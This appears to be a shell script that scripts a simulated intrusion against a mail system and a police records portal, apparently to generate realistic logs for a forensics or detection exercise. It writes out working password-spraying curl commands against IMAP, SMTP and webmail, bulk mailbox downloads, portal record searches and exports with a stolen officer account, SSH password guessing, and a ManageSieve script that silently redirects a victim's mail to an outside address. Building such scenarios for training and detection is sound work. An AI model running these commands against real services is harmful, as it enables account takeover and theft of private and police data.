# story.sh: the intrusion, and its calendar.
#
# A slow spraying over a day, one password guessed, a mailbox read by night, a
# colleague's mail in it that gives away a shared mailbox and the portal, both
# used the night after.  Every function runs as WHO=intruder.

SPRAYED="claire.martin marc.lefevre sophie.bernard luc.moreau nadia.haddad
p104233 p208817 thomas.petit emma.leroy hugo.fontaine camille.blanc
antoine.garnier brigade.est adm.roux paul.durand contact accueil"
VICTIM=marc.lefevre
SHARED=brigade.est
OFFICER=luc.moreau
AGENT_THEIRS=$FIREFOX

story_calendar()
{
	cat <<-END
	2025-12-03T09:12:00Z send_secrets
	2025-12-10T22:10:00Z theirs spray imap 198.51.100.20 Bienvenue2025 1 6
	2025-12-10T22:52:00Z theirs spray imap 198.51.100.20 Bienvenue2025 7 12
	2025-12-10T23:37:00Z theirs spray imap 198.51.100.21 Bienvenue2025 13 17
	2025-12-11T01:15:00Z theirs spray smtp 198.51.100.21 Noel2025! 1 6
	2025-12-11T02:03:00Z theirs spray smtp 198.51.100.22 Noel2025! 7 12
	2025-12-11T03:21:00Z theirs spray smtp 198.51.100.22 Noel2025! 13 17
	2025-12-11T12:40:00Z theirs spray webmail 198.51.100.22 Interieur2025 1 3
	2025-12-11T14:06:00Z theirs spray webmail 198.51.100.23 Interieur2025 4 6
	2025-12-11T17:33:00Z theirs spray imap 198.51.100.23 Hiver2025! 1 6
	2025-12-11T18:20:00Z theirs spray imap 198.51.100.23 Hiver2025! 7 12
	2025-12-11T19:26:00Z theirs spray imap 198.51.100.24 Hiver2025! 13 17
	2025-12-11T20:31:00Z theirs spray imap 198.51.100.24 Decembre2025! 3 8
	2025-12-11T21:04:00Z theirs spray imap 198.51.100.25 Decembre2025! 1 2
	2025-12-11T21:22:00Z theirs night_webmail
	2025-12-11T23:11:00Z theirs night_imap
	2025-12-12T00:34:00Z theirs night_portal_look
	2025-12-12T21:31:00Z theirs second_webmail
	2025-12-12T21:52:00Z theirs second_mailbox
	2025-12-12T22:41:00Z theirs second_portal
	2025-12-13T01:12:00Z theirs second_export
	2025-12-13T02:03:00Z theirs second_forward
	2025-12-13T02:19:00Z theirs second_send
	2025-12-13T02:44:00Z theirs second_ssh
	2025-12-13T03:06:00Z theirs second_last
	END
}

theirs()
{
	WHO=intruder AGENT=$AGENT_THEIRS
	"$@"
	WHO=owner AGENT=$EDGE
}

# The carelessness that made it possible: sent in clear, days before.
send_secrets()
{
	send sophie.bernard 192.0.2.80 7701 $VICTIM 'Acces pendant mes conges' \
	    "Pour la boite commune: brigade.est / $(password_of $SHARED)
Pour le portail, prends le compte de Luc en attendant:
identifiant $OFFICER, mot de passe $(password_of $OFFICER)
Ne le garde pas dans tes mails."
	inbox_count $VICTIM >/run/secret.uid
}

# spray SERVICE ADDRESS PASSWORD FIRST LAST: one password, several accounts.
spray()
{
	begun=$(clock_now)
	tried=
	for login in $(echo $SPRAYED | tr ' ' '\n' | sed -n "$4,$5p"); do
		[ -s $TRUTH/first_failure ] || echo "$begun" >$TRUTH/first_failure
		note addresses "$2"
		case $1 in
		imap)
			curl -s -k --interface "$2" -u "$login@$DOMAIN:$3" 'imaps://192.0.2.10/' >/dev/null & ;;
		smtp)
			curl -s -k --ssl-reqd --interface "$2" -u "$login@$DOMAIN:$3" 'smtp://192.0.2.10:587/poste' \
			    --mail-from "$login@$DOMAIN" --mail-rcpt "$login@$DOMAIN" -T /dev/null >/dev/null & ;;
		webmail)
			webmail_open "$login" "$2" "$3" & ;;
		esac
		tried="$tried $!"
		if [ "$(password_of "$login")" = "$3" ]; then
			wait $!
			session_note "$1" "$login" "$2" "$begun"
		fi
		[ "$1" = webmail ] && wait $!
		sleep 0.3
	done
	wait $tried
}

# webmail_search ADDRESS WORDS
webmail_search()
{
	webmail_ajax "$1" "_task=mail&_action=search&_interval=&_q=$(echo "$2" | tr ' ' +)&_headers=subject%2Cfrom%2Ctext&_filter=ALL&_scope=base&_mbox=INBOX&_remote=1&_unlock=loading$(clock_now)"
	note searches webmail "$VICTIM@$DOMAIN" "$2"
}

pause()
{
	clock_to $(($(clock_now) + $1))
}

night_webmail()
{
	from=198.51.100.44
	start=$(clock_now)
	note addresses $from
	webmail_open $VICTIM $from
	pause 40
	webmail_search $from 'mot de passe'
	pause 35
	webmail_show $VICTIM $from "$(cat /run/secret.uid)"
	pause 120
	for word in portail code acces; do
		webmail_search $from $word
		pause 45
	done
	uid=3
	while [ $uid -le 30 ]; do
		webmail_show $VICTIM $from $uid
		pause 50
		uid=$((uid + 3))
	done
	session_note webmail $VICTIM $from "$start"
}

night_imap()
{
	from=198.51.100.61
	note addresses $from
	start=$(clock_now)
	last=$(inbox_count $VICTIM)
	imap_bulk $VICTIM $from $((last - 29)) "$last"
	session_note imap $VICTIM $from "$start"
}

# search_as ADDRESS REGISTER NAME PAGES
search_as()
{
	page=0
	while [ $page -lt "$4" ]; do
		portal_ask "$1" search summary "$2" verification PV-2025-0412 "name=$3" "from=$((page * 50))"
		page=$((page + 1))
		pause 20
	done
	note searches portal "$OFFICER@$DOMAIN" "$2:$3"
}

# records_as ADDRESS REGISTER N: full records from the list just seen.
records_as()
{
	grep -o '[TF][AP][JR]-[0-9]*' /run/page | sort -u | sed -n "1~4p" | head -n "$3" >/run/ids
	while read -r id; do
		portal_ask "$1" record full "$2" verification PV-2025-0412 "id=$id"
		pause 30
	done </run/ids
}

night_portal_look()
{
	from=198.51.100.44
	start=$(clock_now)
	portal_open $OFFICER $from
	search_as $from taj VASSEUR 1
	records_as $from taj 1
	session_note app $OFFICER $from "$start"
}

second_webmail()
{
	from=198.51.100.44
	start=$(clock_now)
	webmail_open $VICTIM $from
	last=$(inbox_count $VICTIM)
	for uid in $last $((last - 1)) $((last - 2)); do
		webmail_show $VICTIM $from $uid
		pause 60
	done
	webmail_close $from
	session_note webmail $VICTIM $from "$start"
}

second_mailbox()
{
	from=198.51.100.44
	start=$(clock_now)
	curl -s -k --interface $from -u "$SHARED@$DOMAIN:$(password_of $SHARED)" 'imaps://192.0.2.10/' >/dev/null
	session_note imap $SHARED $from "$start"
	pause 600
	from=198.51.100.61
	start=$(clock_now)
	pop_curl $SHARED $from 1 "$(inbox_count $SHARED)"
	session_note pop3 $SHARED $from "$start"
	note copied "$SHARED@$DOMAIN"
}

second_portal()
{
	from=198.51.100.44
	start=$(clock_now)
	portal_open $OFFICER $from
	for name in CORDIER GAUDIN KELLER OLLIER; do
		search_as $from taj $name 2
		records_as $from taj 3
	done
	for name in SABATIER WEISS; do
		search_as $from fpr $name 1
		records_as $from fpr 2
	done
	for name in Alice Bruno Chloe Denis; do
		portal_ask $from check hit fpr verification PV-2025-0412 name=ZIEGLER "given=$name"
		pause 15
	done
	session_note app $OFFICER $from "$start"
}

second_export()
{
	from=198.51.100.44
	start=$(clock_now)
	portal_open $OFFICER $from
	portal_ask $from export summary taj verification PV-2025-0412 name=DUMAS
	pause 30
	browse $from $PORTAL/logout -o /dev/null
	session_note app $OFFICER $from "$start"
}

second_forward()
{
	from=198.51.100.61
	start=$(clock_now)
	secret=$(printf '\0%s\0%s' "$VICTIM@$DOMAIN" "$(password_of $VICTIM)" | base64 -w0)
	php /e2e/talk.php $from 192.0.2.10 4190 >/dev/null <<-END
	?OK
	STARTTLS
	?OK
	!tls
	?OK
	AUTHENTICATE "PLAIN" "$secret"
	?OK
	PUTSCRIPT "suivi" {55+}
	require "copy";
	redirect :copy "releve@boite.example";
	?OK
	SETACTIVE "suivi"
	?OK
	LOGOUT
	?OK
	END
	session_note managesieve $VICTIM $from "$start"
	note changes sieve_forward "$VICTIM@$DOMAIN"
}

second_send()
{
	send $VICTIM 198.51.100.61 8812 sophie.bernard 'Re: Acces pendant mes conges' \
	    'Tu peux me renvoyer le code de la salle ? Je ne le retrouve plus.'
}

second_ssh()
{
	for login in root adm.roux $VICTIM; do
		ssh_wrong $login 198.51.100.61 "$(password_of $OFFICER)"
		ssh_wrong $login 198.51.100.61 "$(password_of $VICTIM)"
	done
}

second_last()
{
	from=198.51.100.44
	start=$(clock_now)
	webmail_open $VICTIM $from
	webmail_show $VICTIM $from "$(inbox_count $VICTIM)"
	session_note webmail $VICTIM $from "$start"
}
